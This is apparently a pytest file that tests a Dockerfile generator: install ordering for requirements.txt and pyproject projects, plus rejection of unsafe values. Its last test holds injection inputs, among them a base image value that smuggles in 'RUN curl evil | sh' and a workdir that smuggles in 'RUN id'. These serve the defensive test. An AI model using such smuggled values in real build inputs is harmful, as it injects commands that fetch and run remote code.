"""dockerfile: auto: what the generated Dockerfile holds, for each way a project lists its requirements."""

from __future__ import annotations

import pytest

from register.image.dockerfile import DEFAULT_BASE, generate


def test_requirements_are_installed_before_the_code_is_copied(tmp_path):
    (tmp_path / "requirements.txt").write_text("pandas\n")
    text = generate(tmp_path, base="python:3.12-slim", workdir="/opt/prefect/sales-etl", project="sales-etl")
    lines = [line for line in text.splitlines() if not line.startswith("#")]
    assert lines == [
        "FROM python:3.12-slim",
        "WORKDIR /opt/prefect/sales-etl",
        "COPY requirements.txt ./",
        "RUN python -m pip install --no-cache-dir -r requirements.txt",
        "COPY . ./",
    ]


def test_a_pyproject_is_installed_as_a_package(tmp_path):
    (tmp_path / "pyproject.toml").write_text("[project]\nname = 'x'\n")
    text = generate(tmp_path, base=None, workdir="/app", project="x")
    assert f"FROM {DEFAULT_BASE}" in text
    assert text.index("COPY . ./") < text.index("RUN python -m pip install --no-cache-dir .")


def test_code_only(tmp_path):
    text = generate(tmp_path, base="b", workdir="/app", project="x")
    assert "pip" not in text and text.rstrip().endswith("COPY . ./")


@pytest.mark.parametrize("key,value", [("base", "python:3.12\nRUN curl evil | sh"), ("base", "python:3.12\r"),
                                       ("workdir", "/app\nRUN id"), ("workdir", "/app\\"), ("workdir", "/a b"),
                                       ("base", "python\0")])
def test_no_value_adds_a_line_of_its_own(tmp_path, key, value):
    with pytest.raises(ValueError, match=key):
        generate(tmp_path, **{"base": "b", "workdir": "/app", key: value}, project="x")
